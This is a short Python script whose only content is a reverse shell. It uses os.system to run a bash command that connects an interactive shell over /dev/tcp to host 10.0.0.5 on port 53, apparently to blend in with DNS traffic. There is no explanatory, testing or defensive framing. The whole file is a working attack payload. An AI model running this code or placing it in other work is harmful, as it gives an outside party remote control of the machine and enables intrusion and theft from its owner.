#!/usr/bin/env python3

import os
host = "10.0.0.5"
port = 53
os.system(f"bash -i >& /dev/tcp/{host}/{port} 0>&1")
